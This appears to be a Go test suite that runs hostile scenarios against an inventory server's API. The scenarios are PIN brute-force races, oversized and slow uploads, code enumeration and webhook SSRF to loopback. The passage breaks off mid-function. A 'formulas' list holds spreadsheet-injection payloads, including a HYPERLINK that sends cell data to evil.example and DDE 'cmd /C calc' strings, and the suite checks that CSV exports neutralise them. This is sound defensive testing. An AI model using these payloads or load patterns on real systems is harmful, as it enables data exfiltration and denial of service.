package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"pandian/fixtures/hostile"
	"pandian/stock"
)

// The campaign's scenarios, by the name fixtures/hostile/campaign gives
// them.
var scenarios = map[string]scenario{
	"concurrent PIN guesses":                 {true, scenarioPINRace},
	"anonymous 60 MiB bodies":                {false, scenarioAnonBodies},
	"streamed 2 GiB document":                {false, scenarioStreamedDocument},
	"slow uploads":                           {false, scenarioSlowUploads},
	"scan dated 1970":                        {true, scenario1970},
	"formulas in CSV exports":                {true, scenarioCSVFormulas},
	"lock-out from another device":           {true, scenarioDeviceLockout},
	"employee code enumeration":              {true, scenarioEnumeration},
	"import of failing rows":                 {false, scenarioFailingImport},
	"webhook to loopback":                    {true, scenarioWebhookLoopback},
	"replica with MinIO down":                {false, scenarioMinIODownAtStart},
	"database connections":                   {false, scenarioConnections},
	"lock-out":                               {true, scenarioLockout},
	"replayed batches from four devices":     {true, scenarioReplay},
	"event replayed with another payload":    {true, scenarioEventConflict},
	"movement replayed with another payload": {true, scenarioMovementConflict},
	"concurrent approvals":                   {true, scenarioConcurrentApprovals},
	"concurrent closes":                      {true, scenarioConcurrentCloses},
	"concurrent SKU edits":                   {true, scenarioConcurrentSKUEdits},
	"logout":                                 {true, scenarioLogout},
}

var campaignSeq atomic.Int64

// uniq returns a name unique within the test run.
func uniq(prefix string) string { return fmt.Sprintf("%s-%d", prefix, campaignSeq.Add(1)) }

// newEmployee makes a counter at HK-TST with PIN 2468.
func (r *campaignRun) newEmployee(t *testing.T, prefix string) string {
	code := strings.ToUpper(uniq(prefix))
	r.s.mustJSON("PUT", "/v1/employees/"+code, "ADMIN", map[string]any{"name": "Campaign " + code, "role": "counter", "scope": []string{"HK-TST"}, "pin": "2468"}, 201, nil)
	return code
}

// signIn posts a sign-in and returns the status, the body and the time it
// took.
func (r *campaignRun) signIn(code, pin, device string) (int, []byte, time.Duration) {
	b, _ := json.Marshal(map[string]string{"employee_code": code, "pin": pin, "device_id": device})
	start := time.Now()
	resp, err := r.client.Post(r.proc.url+"/v1/auth/token", "application/json", bytes.NewReader(b))
	if err != nil {
		return 0, []byte(err.Error()), time.Since(start)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, body, time.Since(start)
}

// Issue 9 #1: 40 concurrent sign-ins (39 wrong PINs, then the right one)
// check at most 5 PINs: the others answer 429, the right PIN too. (A right
// PIN among the first five signs in and, by design, starts the device a
// fresh window: that is no guess gained, the PIN is known.)
func scenarioPINRace(r *campaignRun, t *testing.T) {
	code := r.newEmployee(t, "camp-race")
	var wg sync.WaitGroup
	statuses := make([]int, 40)
	startGun := make(chan struct{})
	// The right PIN goes once five wrong guesses have been answered (a
	// fixed delay was not enough on a loaded machine: the right PIN then
	// came among the first five and, by design, reset the window).
	answered := make(chan struct{}, len(statuses))
	for i := range statuses {
		wg.Go(func() {
			pin := fmt.Sprintf("%04d", 1000+i)
			<-startGun
			if i == 0 {
				pin = "2468"
				for range 5 {
					<-answered
				}
			}
			statuses[i], _, _ = r.signIn(code, pin, "race-device")
			answered <- struct{}{}
		})
	}
	close(startGun)
	wg.Wait()
	checked := 0
	for _, st := range statuses {
		switch st {
		case 200, 401:
			checked++
		case 429:
		default:
			t.Errorf("sign-in answered %d", st)
		}
	}
	if checked > 5 {
		t.Errorf("%d PINs were checked of 40 concurrent guesses (at most 5): %v", checked, statuses)
	}
	if statuses[0] != 429 {
		t.Errorf("the right PIN after five wrong guesses answered %d, want 429 (locked)", statuses[0])
	}
}

// Issue 9 #2: anonymous chunked 60 MiB bodies to the sign-in each get 413
// or 401, and the server's memory stays under 300 MiB.
func scenarioAnonBodies(r *campaignRun, t *testing.T) {
	const n = 32 // as many as the test; each is refused after 4 KiB
	var wg sync.WaitGroup
	var mu sync.Mutex
	answers := map[string]int{}
	for range n {
		wg.Go(func() {
			body := io.MultiReader(strings.NewReader(`{"employee_code":"`), io.LimitReader(hostile.Zeros{}, 60<<20))
			req, _ := http.NewRequest("POST", r.proc.url+"/v1/auth/token", io.NopCloser(body)) // no length: chunked
			req.Header.Set("Content-Type", "application/json")
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			resp, err := r.client.Do(req.WithContext(ctx))
			key := ""
			if err != nil {
				key = "no answer"
			} else {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				key = fmt.Sprint(resp.StatusCode)
			}
			mu.Lock()
			answers[key]++
			mu.Unlock()
		})
	}
	wg.Wait()
	for k, v := range answers {
		if k != "413" && k != "401" && k != "no answer" {
			t.Errorf("%d anonymous bodies answered %s", v, k)
		}
	}
	if answers["413"]+answers["401"] == 0 {
		t.Errorf("no anonymous body got an answer: %v", answers)
	}
	if peak := r.rss.peak.Load(); peak > 300<<20 {
		t.Errorf("RSS reached %d MiB under %d anonymous 60 MiB bodies (limit 300 MiB)", peak>>20, n)
	}
	t.Logf("%d anonymous 60 MiB bodies: %v, peak RSS %d MiB", n, answers, r.rss.peak.Load()>>20)
}

// A document streamed without a length, far past the document limit, is
// cut at the limit with 413; memory stays bounded.
func scenarioStreamedDocument(r *campaignRun, t *testing.T) {
	size := int64(r.length.Pick(128<<20, 2<<30))
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		mw.WriteField("kind", "contract")
		fw, _ := mw.CreateFormFile("file", "big.pdf")
		fw.Write([]byte("%PDF-1.4\n"))
		_, err := io.Copy(fw, io.LimitReader(hostile.Zeros{}, size))
		if err == nil {
			err = mw.Close()
		}
		pw.CloseWithError(err)
	}()
	req, _ := http.NewRequest("POST", r.proc.url+"/v1/documents", pr)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+r.s.token(r.actors["manager"]))
	resp, err := r.client.Do(req)
	pr.CloseWithError(io.ErrClosedPipe)
	if err != nil {
		t.Logf("the server cut the %d MiB stream: %v", size>>20, err)
		return
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 413 || contractCode(b) != "too_large" {
		t.Errorf("%d MiB stream: %d %s", size>>20, resp.StatusCode, truncate(b))
	}
}

// trickle is an upload that sends its body a byte at a time.
type trickle struct {
	pw   *io.PipeWriter
	done chan int
}

// startTrickle opens a photo upload as code and sends its start.
func (r *campaignRun) startTrickle(code, countID string) *trickle {
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	tr := &trickle{pw: pw, done: make(chan int, 1)}
	tok := r.s.token(code)
	go func() {
		req, _ := http.NewRequest("POST", r.proc.url+"/v1/counts/"+countID+"/images", pr)
		req.Header.Set("Content-Type", mw.FormDataContentType())
		req.Header.Set("Authorization", "Bearer "+tok)
		st := 0
		if resp, err := r.client.Do(req); err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			st = resp.StatusCode
		}
		tr.done <- st
	}()
	go func() {
		fw, _ := mw.CreateFormFile("file", "slow.png")
		fw.Write([]byte("\x89PNG\r\n\x1a\n"))
	}()
	return tr
}

// Issue 9 #3: one counter opens 16 photo uploads that trickle a byte every
// 500 ms: another employee's photo still goes through.
func scenarioSlowUploads(r *campaignRun, t *testing.T) {
	counter, mgr := r.actors["counter"], r.actors["manager"]
	var trickles []*trickle
	for range 16 {
		trickles = append(trickles, r.startTrickle(counter, r.vars["count"]))
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for _, tr := range trickles {
		wg.Go(func() {
			for {
				select {
				case <-stop:
					return
				case <-time.After(500 * time.Millisecond):
				}
				if _, err := tr.pw.Write([]byte{0}); err != nil {
					return
				}
			}
		})
	}
	defer func() {
		close(stop)
		wg.Wait()
		for _, tr := range trickles {
			tr.pw.CloseWithError(io.ErrUnexpectedEOF)
			select {
			case <-tr.done:
			case <-time.After(30 * time.Second):
				t.Errorf("a slow upload was not ended 30 s after its client went")
			}
		}
	}()
	time.Sleep(time.Second)
	end := time.Now().Add(time.Duration(r.length.Pick(1, 60)) * time.Second)
	for {
		body, ct := hostile.Multipart(nil, "p.png", hostile.SmallPNG())
		resp, b := r.s.raw("POST", "/v1/counts/"+r.vars["count"]+"/images", mgr, ct, body)
		if resp.StatusCode != 200 {
			t.Fatalf("another employee's photo while 16 slow uploads run: %d %s", resp.StatusCode, truncate(b))
		}
		if time.Now().After(end) {
			break
		}
		time.Sleep(5 * time.Second)
	}
}

// Issue 9 #4: book 9377, a sale of -10 during a snapshot_delta count, the
// shelf scanned at 9367 by a handheld whose clock says 1970: after
// approval the book equals the shelf.
func scenario1970(r *campaignRun, t *testing.T) {
	s, mgr := r.s, r.actors["manager"]
	cat, zone := uniq("camp1970"), r.zone(t)
	item := s.newSKUs(cat, zone, 1, 9377)[0]
	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}, "movement_policy": "snapshot_delta"})
	time.Sleep(20 * time.Millisecond)
	if st, b := s.move(mgr, sale(uniq("camp-sale"), item.SKU, zone, 10, time.Now())); st != 200 {
		t.Fatalf("sale: %d %s", st, b)
	}
	s.scans(mgr, cnt.ID, scanIn{Code: item.EAN, Qty: 9367, ScannedAt: "1970-01-01T00:00:00Z", DeviceID: "flat-battery"})
	s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/close", mgr, nil, 200, nil)
	s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/approve", mgr, map[string]any{"uncounted": "zero"}, 200, nil)
	if got := s.book(zone, item.SKU); got != 9367 {
		t.Errorf("book after approval %d, want the shelf's 9367", got)
	}
}

// formulas are what a SKU name or category may hold to attack a
// spreadsheet that opens an export.
var formulas = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}

// Issue 9 #5: formulas in SKU names and categories come out inert in
// every CSV export of the API.
func scenarioCSVFormulas(r *campaignRun, t *testing.T) {
	s, mgr := r.s, r.actors["manager"]
	cat, zone := formulas[1]+uniq(""), r.zone(t)
	var skus []string
	csvStock := "sku,location,qty\n"
	for i, name := range []string{formulas[0], formulas[2], formulas[3]} {
		sku := strings.ToUpper(uniq("CAMP-FX"))
		body := fmt.Sprintf("48998%07d", campaignSeq.Add(1))
		s.mustJSON("PUT", "/v1/skus/"+sku, "ADMIN", map[string]any{"name": name, "name_zh": formulas[(i+1)%len(formulas)], "category": cat, "unit_cost": "2.00",
			"barcodes": []map[string]any{{"code": ean(body), "pack_qty": 1}}}, 201, nil)
		skus = append(skus, ean(body))
		csvStock += sku + "," + zone + ",5\n"
	}
	if resp, b := s.raw("POST", "/v1/imports/stock", "ADMIN", "text/csv", []byte(csvStock)); resp.StatusCode != 200 {
		t.Fatalf("stock: %d %s", resp.StatusCode, b)
	}
	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
	for _, code := range skus {
		s.scans(mgr, cnt.ID, scanIn{Code: code, Qty: 3})
	}
	s.scans(mgr, cnt.ID, scanIn{Code: formulas[0], Qty: 1}) // an unknown code
	s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/close", mgr, nil, 200, nil)
	var paths []string
	for _, g := range []string{"sku", "role", "employee", "zone", "category"} {
		paths = append(paths, "/v1/counts/"+cnt.ID+"/report?format=csv&group_by="+g)
		for _, rows := range []string{"lines", "groups"} {
			paths = append(paths, "/v1/counts/"+cnt.ID+"/report?format=csv&group_by="+g+"&rows="+rows)
		}
	}
	s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/approve", mgr, map[string]any{"uncounted": "zero"}, 200, nil)
	for _, g := range []string{"category", "role", "employee", "store", "sku"} {
		paths = append(paths, "/v1/reports/discrepancies?format=csv&location=HK-TST&group_by="+g)
	}
	seen := false
	for _, p := range paths {
		resp, b := s.raw("GET", p, "ADMIN", "", nil)
		if resp.StatusCode == 422 {
			continue // a grouping this report does not offer
		}
		if resp.StatusCode != 200 {
			t.Errorf("%s: %d %s", p, resp.StatusCode, truncate(b))
			continue
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Errorf("%s: not CSV: %v", p, err)
			continue
		}
		var live []string
		for _, row := range rows {
			for _, cell := range row {
				for _, f := range formulas {
					if strings.Contains(cell, f[1:]) {
						seen = true
					}
					if strings.HasPrefix(cell, f[:min(len(f), 6)]) {
						live = append(live, cell)
					}
				}
			}
		}
		if len(live) > 0 {
			t.Errorf("%s: %d live formulas, as %q", p, len(live), live[0])
		}
	}
	if !seen {
		t.Errorf("no export holds the SKU names: the check saw nothing")
	}
}

// Issue 9 #6: wrong PINs from one device do not lock the employee out
// of a device that signed in successfully before.
func scenarioDeviceLockout(r *campaignRun, t *testing.T) {
	code := r.newEmployee(t, "camp-dev")
	if st, b, _ := r.signIn(code, "2468", "own-handheld"); st != 200 {
		t.Fatalf("first sign-in: %d %s", st, b)
	}
	for i := range 8 {
		if st, b, _ := r.signIn(code, fmt.Sprintf("%04d", 1000+i), "attacker"); st != 401 && st != 429 {
			t.Fatalf("wrong PIN from elsewhere: %d %s", st, b)
		}
	}
	if st, b, _ := r.signIn(code, "2468", "own-handheld"); st != 200 {
		t.Errorf("the employee's own handheld is locked out by another device's failures: %d %s", st, b)
	}
}

// Issue 9 #7: an unknown employee code gets the same answers, at the same
// cost, as a real one with wrong PINs.
func scenarioEnumeration(r *campaignRun, t *testing.T) {
	real := r.newEmployee(t, "camp-enum")
	ghost := strings.ToUpper(uniq("CAMP-GHOST"))
	type attempt struct {
		status int
		keys   string
		took   time.Duration
	}
	try := func(code string, i int) attempt {
		st, b, took := r.signIn(code, fmt.Sprintf("%04d", 3000+i), "enum-device")
		var e struct {
			Error struct {
				Code    string         `json:"code"`
				Details map[string]any `json:"details"`
			} `json:"error"`
		}
		json.Unmarshal(b, &e)
		var keys []string
		for k := range e.Error.Details {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		return attempt{st, e.Error.Code + " " + strings.Join(keys, ","), took}
	}
	// The two codes' attempts alternate, so that a burst of load on the
	// machine falls on both alike.
	var a, b []attempt
	for i := range 6 {
		a, b = append(a, try(real, i)), append(b, try(ghost, i))
	}
	for i := range a {
		if a[i].status != b[i].status || a[i].keys != b[i].keys {
			t.Errorf("attempt %d: a real code answers %d {%s}, an unknown one %d {%s}", i+1, a[i].status, a[i].keys, b[i].status, b[i].keys)
		}
	}
	// The quickest of the first three attempts (before any lock-out): the
	// PIN check's own cost, which load can only add to.
	fastest := func(x []attempt) time.Duration {
		return min(x[0].took, x[1].took, x[2].took)
	}
	if ma, mb := fastest(a), fastest(b); mb < ma/3 {
		t.Errorf("an unknown code answers in %s, a real one in %s: the codes can be told apart", mb, ma)
	}
}

// Issue 9 #8: an import whose rows all fail keeps memory bounded and
// reports the first errors and their number.
func scenarioFailingImport(r *campaignRun, t *testing.T) {
	rows := r.length.Pick(200_000, 1_000_000)
	body := hostile.FailingCatalogCSV(rows)
	resp, b := r.s.raw("POST", "/v1/imports/catalog", "ADMIN", "text/csv", body)
	body = nil
	var res *stock.ImportResult
	switch resp.StatusCode {
	case 200:
		mustUnmarshal(t, b, &res)
	case 202:
		var acc struct{ Job stock.JobView }
		mustUnmarshal(t, b, &acc)
		deadline := time.Now().Add(3 * time.Minute)
		for {
			var job stock.JobView
			r.s.mustJSON("GET", "/v1/jobs/"+acc.Job.ID, "ADMIN", nil, 200, &job)
			if job.Status == "done" || job.Status == "failed" {
				res = job.Result
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("import job still %s after 3 min", job.Status)
			}
			time.Sleep(200 * time.Millisecond)
		}
	default:
		t.Fatalf("import of %d failing rows: %d %s", rows, resp.StatusCode, truncate(b))
	}
	if res == nil {
		t.Fatalf("no import result")
	}
	if res.Created != 0 || res.Updated != 0 {
		t.Errorf("failing rows stored: %+v", res)
	}
	if len(res.Errors) == 0 || len(res.Errors) > 1000 {
		t.Errorf("%d errors listed for %d failing rows (want the first ones, at most 1000)", len(res.Errors), rows)
	}
	t.Logf("%d failing rows: %d errors listed, peak RSS %d MiB", rows, len(res.Errors), r.rss.peak.Load()>>20)
}

// Issue 9 #9: a webhook aimed at a loopback address never reaches it, and
// nothing of an internal answer shows in the delivery log.
func scenarioWebhookLoopback(r *campaignRun, t *testing.T) {
	secret := "INTERNAL-" + uniq("answer")
	var hits atomic.Int64
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		io.WriteString(w, secret)
	})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	defer srv.Close()
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	// By address, and by a name that resolves to loopback (what DNS
	// rebinding gives an attacker).
	for _, host := range []string{"127.0.0.1", "localhost"} {
		id := uniq("camp-loop")
		body, _ := json.Marshal(map[string]any{"name": "loopback", "kind": "count_open_hours", "threshold": "8",
			"targets": []map[string]any{{"id": "t", "kind": "generic", "url": "http://" + net.JoinHostPort(host, port) + "/internal", "secret": "s3cret"}}})
		resp, b := r.s.raw("PUT", "/v1/alert-rules/"+id, "ADMIN", "application/json", body)
		if resp.StatusCode == 422 {
			continue // refused when the rule is made
		}
		if resp.StatusCode != 201 {
			t.Fatalf("rule: %d %s", resp.StatusCode, truncate(b))
		}
		if resp, b := r.s.raw("POST", "/v1/alert-rules/"+id+"/test", "ADMIN", "", nil); resp.StatusCode != 202 {
			t.Fatalf("test the rule: %d %s", resp.StatusCode, truncate(b))
		}
		deadline := time.Now().Add(3 * time.Second)
		var log []byte
		for time.Now().Before(deadline) {
			_, log = r.s.raw("GET", "/v1/alert-deliveries?rule="+url.QueryEscape(id), "ADMIN", "", nil)
			if bytes.Contains(log, []byte(`"failed"`)) || bytes.Contains(log, []byte(`"sent"`)) {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		var list struct {
			Deliveries []struct{ ID string } `json:"deliveries"`
		}
		json.Unmarshal(log, &list)
		for _, d := range list.Deliveries {
			_, one := r.s.raw("GET", "/v1/alert-deliveries/"+d.ID, "auditor", "", nil)
			log = append(log, one...)
		}
		if n := hits.Load(); n != 0 {
			t.Errorf("the webhook reached %s %d times", host, n)
		}
		if bytes.Contains(log, []byte(secret)) {
			t.Errorf("the delivery log shows the internal answer: %s", truncate(log))
		}
	}
}

// Issue 9 #10: a replica starts, serves and reports the object store in
// /readyz while MinIO is down.
func scenarioMinIODownAtStart(r *campaignRun, t *testing.T) {
	dirs := newCampaignDirs(t)
	cfg := r.cfg
	cfg.DataDir = dirs.data
	cfg.S3Endpoint = freePort(t) // nothing listens there
	p := startServerProc(t, cfg, dirs, freePort(t), true, "PANDIAN_DEMO=0", "PANDIAN_JOBS=false", "PANDIAN_FILES_KEY=campaign-replica-key-0123456789abcdef")
	defer p.kill()
	b, _ := json.Marshal(map[string]string{"employee_code": "ADMIN", "pin": "900001", "device_id": "replica"})
	resp, err := r.client.Post(p.url+"/v1/auth/token", "application/json", bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	var in struct{ Token string }
	json.NewDecoder(resp.Body).Decode(&in)
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("sign-in on the replica: %d", resp.StatusCode)
	}
	req, _ := http.NewRequest("GET", p.url+"/v1/counts?location=HK-TST", nil)
	req.Header.Set("Authorization", "Bearer "+in.Token)
	if resp, err := r.client.Do(req); err != nil || resp.StatusCode != 200 {
		t.Fatalf("counts on the replica: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	resp, err = r.client.Get(p.url + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	ready, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !bytes.Contains(bytes.ToLower(ready), []byte("object")) {
		t.Errorf("/readyz does not report the object store: %d %s", resp.StatusCode, ready)
	}
}

// Issue 9 #11: under a burst of 48 concurrent requests the server holds at
// most 32 connections to PostgreSQL.
func scenarioConnections(r *campaignRun, t *testing.T) {
	mgr := r.actors["manager"]
	tok := r.s.token(mgr)
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for range 48 {
		wg.Go(func() {
			for {
				select {
				case <-stop:
					return
				default:
				}
				req, _ := http.NewRequest("GET", r.proc.url+"/v1/counts/"+r.vars["count"]+"/report?group_by=employee", nil)
				req.Header.Set("Authorization", "Bearer "+tok)
				if resp, err := r.client.Do(req); err == nil {
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
			}
		})
	}
	most := 0
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		var n int
		if err := r.store.QueryRow(`SELECT COUNT(*) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()`).Scan(&n); err != nil {
			t.Fatal(err)
		}
		most = max(most, n)
		time.Sleep(20 * time.Millisecond)
	}
	close(stop)
	wg.Wait()
	if most > 32 {
		t.Errorf("the server held %d connections to PostgreSQL", most)
	}
	t.Logf("at most %d PostgreSQL connections under 48 concurrent requests", most)
}

// Five wrong PINs lock an employee out, with 429, even with the right
// PIN from a device never used before.
func scenarioLockout(r *campaignRun, t *testing.T) {
	code := r.newEmployee(t, "camp-lock")
	for i := range 4 {
		if st, b, _ := r.signIn(code, "0000", "d1"); st != 401 || contractCode(b) != "unauthenticated" {
			t.Fatalf("wrong PIN %d: %d %s", i+1, st, b)
		}
	}
	if st, b, _ := r.signIn(code, "0000", "d1"); st != 429 || contractCode(b) != "rate_limited" {
		t.Fatalf("fifth wrong PIN: %d %s", st, b)
	}
	if st, b, _ := r.signIn(code, "2468", "d1"); st != 429 {
		t.Fatalf("right PIN while locked: %d %s", st, b)
	}
}

// A batch replayed by four devices at once, shuffled, counts each scan
// once.
func scenarioReplay(r *campaignRun, t *testing.T) {
	s, mgr := r.s, r.actors["manager"]
	cat, zone := uniq("camp-replay"), r.zone(t)
	items := s.newSKUs(cat, zone, 5, 50)
	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
	batch := make([]scanIn, 500)
	for i := range batch {
		batch[i] = scanIn{EventID: fmt.Sprintf("%s-%d", cat, i), Code: items[i%5].EAN, Qty: 1, DeviceID: "queue"}
	}
	var accepted atomic.Int64
	var wg sync.WaitGroup
	for d := range 4 {
		who := mgr
		if d%2 == 1 {
			who = r.actors["counter"]
		}
		wg.Go(func() {
			rng := rand.New(rand.NewPCG(uint64(d), 9))
			for range 2 {
				b := slices.Clone(batch)
				rng.Shuffle(len(b), func(i, j int) { b[i], b[j] = b[j], b[i] })
				for len(b) > 0 {
					part := b[:min(100, len(b))]
					b = b[len(part):]
					body, _ := json.Marshal(map[string]any{"scans": part})
					req, _ := http.NewRequest("POST", r.proc.url+"/v1/counts/"+cnt.ID+"/scans", bytes.NewReader(body))
					req.Header.Set("Content-Type", "application/json")
					req.Header.Set("Authorization", "Bearer "+s.token(who))
					resp, err := r.client.Do(req)
					if err != nil {
						t.Error(err)
						return
					}
					var res stock.ScanResult
					json.NewDecoder(resp.Body).Decode(&res)
					resp.Body.Close()
					if resp.StatusCode != 200 || len(res.Rejected) != 0 {
						t.Errorf("replay: %d %+v", resp.StatusCode, res.Rejected)
					}
					accepted.Add(int64(res.Accepted))
				}
			}
		})
	}
	wg.Wait()
	var view stock.CountView
	s.mustJSON("GET", "/v1/counts/"+cnt.ID, mgr, nil, 200, &view)
	if accepted.Load() != 500 || view.Stats.Counted != 500 {
		t.Errorf("accepted %d, counted %d, want 500", accepted.Load(), view.Stats.Counted)
	}
}

// An event replayed with another quantity is refused as a conflict; the
// first one stands.
func scenarioEventConflict(r *campaignRun, t *testing.T) {
	s, mgr := r.s, r.actors["manager"]
	cat, zone := uniq("camp-conflict"), r.zone(t)
	item := s.newSKUs(cat, zone, 1, 5)[0]
	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
	id := uniq("camp-ev")
	if res := s.scans(mgr, cnt.ID, scanIn{EventID: id, Code: item.EAN, Qty: 1}); res.Accepted != 1 {
		t.Fatalf("first: %+v", res)
	}
	for _, changed := range []scanIn{{EventID: id, Code: item.EAN, Qty: 5}, {EventID: id, Code: item.Case, Qty: 1}, {EventID: id, Code: item.EAN, Qty: 1, Bin: "HK-TST-A01"}} {
		res := s.scans(mgr, cnt.ID, changed)
		if res.Accepted != 0 || len(res.Rejected) != 1 || res.Rejected[0].Code != "conflict" {
			t.Errorf("replay with %+v: %+v", changed, res)
		}
	}
	if res := s.scans(mgr, cnt.ID, scanIn{EventID: id, Code: item.EAN, Qty: 1}); res.Duplicates != 1 {
		t.Errorf("same replay: %+v", res)
	}
	if l := lineOf(t, s.report(mgr, cnt.ID, "sku"), item.SKU); l.CountedQty != 1 {
		t.Errorf("counted %d, want 1", l.CountedQty)
	}
}

// A movement replayed with another quantity is refused; the book moves
// once.
func scenarioMovementConflict(r *campaignRun, t *testing.T) {
	s, mgr := r.s, r.actors["manager"]
	item := s.newSKUs(uniq("camp-mv"), "HK-TST", 1, 5)[0]
	id := uniq("camp-move")
	at := time.Now().UTC().Format(time.RFC3339)
	mv := func(q int) map[string]any {
		return map[string]any{"movement_id": id, "sku": item.SKU, "location": "HK-TST", "qty_delta": q, "kind": "receipt", "at": at}
	}
	if st, b := s.move(mgr, mv(1)); st != 200 {
		t.Fatalf("receipt: %d %s", st, b)
	}
	if st, b := s.move(mgr, mv(1)); st != 200 {
		t.Errorf("same receipt again: %d %s", st, b)
	}
	if st, b := s.move(mgr, mv(5)); st != 409 || contractCode(b) != "conflict" {
		t.Errorf("receipt replayed with another qty: %d %s", st, b)
	}
	if got := s.book("HK-TST", item.SKU); got != 6 {
		t.Errorf("book %d, want 6", got)
	}
}

// concurrently sends n copies of a request and returns their statuses.
func (r *campaignRun) concurrently(n int, method, path, as string, body []byte) []int {
	tok := r.s.token(as)
	out := make([]int, n)
	var wg sync.WaitGroup
	gun := make(chan struct{})
	for i := range out {
		wg.Go(func() {
			req, _ := http.NewRequest(method, r.proc.url+path, bytes.NewReader(body))
			if body != nil {
				req.Header.Set("Content-Type", "application/json")
			}
			req.Header.Set("Authorization", "Bearer "+tok)
			<-gun
			if resp, err := r.client.Do(req); err == nil {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				out[i] = resp.StatusCode
			}
		})
	}
	close(gun)
	wg.Wait()
	slices.Sort(out)
	return out
}

// reviewCount opens a count of a new SKU, scans it and closes it.
func (r *campaignRun) reviewCount(t *testing.T, closeIt bool) (string, string, testSKU) {
	s, mgr := r.s, r.actors["manager"]
	cat, zone := uniq("camp-race"), r.zone(t)
	item := s.newSKUs(cat, zone, 1, 20)[0]
	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
	s.scans(mgr, cnt.ID, scanIn{Code: item.EAN, Qty: 18})
	if closeIt {
		s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/close", mgr, nil, 200, nil)
	}
	return cnt.ID, zone, item
}

// Four approvals of one count at once: approval is idempotent, so all
// answer 200, and the count is posted once.
func scenarioConcurrentApprovals(r *campaignRun, t *testing.T) {
	id, zone, item := r.reviewCount(t, true)
	got := r.concurrently(4, "POST", "/v1/counts/"+id+"/approve", r.actors["manager"], []byte(`{"uncounted":"zero"}`))
	if !slices.Equal(got, []int{200, 200, 200, 200}) {
		t.Errorf("concurrent approvals: %v", got)
	}
	if b := r.s.book(zone, item.SKU); b != 18 {
		t.Errorf("book %d after approval, want 18", b)
	}
	var n int
	if err := r.store.QueryRow(r.rebind(`SELECT COUNT(*) FROM count_postings WHERE count_id = ? AND sku = ?`), id, item.SKU).Scan(&n); err != nil || n != 1 {
		t.Errorf("%d postings after concurrent approvals, want 1 (%v)", n, err)
	}
	if b := r.s.book(zone, item.SKU); b != 18 {
		t.Errorf("book %d after approving again, want 18", b)
	}
}

// Four closes of one count at once: at least one closes, none fails;
// scans after are refused as late.
func scenarioConcurrentCloses(r *campaignRun, t *testing.T) {
	id, _, item := r.reviewCount(t, false)
	got := r.concurrently(4, "POST", "/v1/counts/"+id+"/close", r.actors["manager"], nil)
	if got[0] != 200 || slices.ContainsFunc(got, func(st int) bool { return st != 200 && st != 409 }) {
		t.Errorf("concurrent closes: %v", got)
	}
	var view stock.CountView
	r.s.mustJSON("GET", "/v1/counts/"+id, r.actors["manager"], nil, 200, &view)
	if view.Status != "review" {
		t.Errorf("status %s after concurrent closes", view.Status)
	}
	if res := r.s.scans(r.actors["manager"], id, scanIn{Code: item.EAN, Qty: 1}); res.Accepted != 0 {
		t.Errorf("a scan after close was counted: %+v", res)
	}
}

// Eight edits of one SKU at once: one creates it, the others replace it
// or (PostgreSQL, when two try to create it at once) answer 409, never
// 5xx; one of them wins whole.
func scenarioConcurrentSKUEdits(r *campaignRun, t *testing.T) {
	sku := strings.ToUpper(uniq("CAMP-EDIT"))
	tok := r.s.token("ADMIN")
	var wg sync.WaitGroup
	statuses := make([]int, 8)
	for i := range statuses {
		wg.Go(func() {
			body, _ := json.Marshal(map[string]any{"name": fmt.Sprintf("edit %d", i), "name_zh": fmt.Sprintf("編輯 %d", i), "category": "camp-edit", "unit_cost": fmt.Sprintf("%d.00", i+1)})
			req, _ := http.NewRequest("PUT", r.proc.url+"/v1/skus/"+sku, bytes.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Authorization", "Bearer "+tok)
			if resp, err := r.client.Do(req); err == nil {
